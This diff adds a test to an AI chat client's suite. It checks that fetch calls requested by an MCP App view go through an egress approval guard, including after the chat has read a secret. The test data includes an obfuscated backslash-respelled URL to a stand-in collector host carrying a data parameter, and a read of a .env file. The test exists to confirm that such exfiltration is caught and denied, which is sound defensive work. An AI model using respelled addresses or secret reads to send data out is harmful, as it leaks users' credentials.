@@ -92,6 +92,44 @@ describe('a secret stays the chat state through compaction and a restart', () =>
   });
 });
 
+describe('a call an MCP App view asks for goes through the same guard', () => {
+  test('a view calling fetch_url with a respelled address asks, and so does one carrying a secret the chat read', { timeout: 60_000 }, async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'egress-view-'));
+    try {
+      const history = new ChatHistory(dir);
+      const meta = newMeta(newChatId(), 'claude-small');
+      const asked: ApprovalRequest[] = [];
+      const fetched: string[] = [];
+      const toolHost = host({
+        workspace__read_file: { readOnly: true, run: async () => ({ content: [{ type: 'text', text: SECRET }] }) },
+        web__fetch_url: { readOnly: true, run: async (args) => (fetched.push(String(args.url)), { content: [{ type: 'text', text: 'ok' }] }) },
+      });
+      const chat = new ChatSession({
+        meta,
+        store: history.store(meta.id),
+        host: toolHost,
+        workspace: undefined,
+        approvals: memoryStore(),
+        ask: async (r) => (asked.push(r), 'deny'),
+      });
+      await chat.load();
+      const fetchTool = toolHost.tools().find((t) => t.qualifiedName === 'web__fetch_url')!;
+      const view = (url: string) =>
+        chat.callForApp({ ...fetchTool, tool: { ...fetchTool.tool, annotations: { openWorldHint: true } } }, { url }, new AbortController().signal);
+      const spelled = await view('http:\\\\collector.example.net/c?d=1');
+      assert.equal(spelled.ok, false);
+      assert.deepEqual(asked.at(-1)?.egress?.hosts, ['collector.example.net']);
+      const readTool = toolHost.tools().find((t) => t.qualifiedName === 'workspace__read_file')!;
+      await chat.callForApp(readTool, { path: '.env' }, new AbortController().signal);
+      await view('https://example.com/');
+      assert.match(asked.at(-1)?.egress?.why ?? '', /holds a secret \(workspace__read_file read \.env\)/);
+      assert.deepEqual(fetched, [], 'nothing was fetched');
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
 describe('a sub-agent carries labels both ways (the real orchestrator)', () => {
   test('a sub-agent that read .env hands the secret up with its reply', { timeout: 90_000 }, async () => {
     const api = new FakeAnthropicApi((body) =>
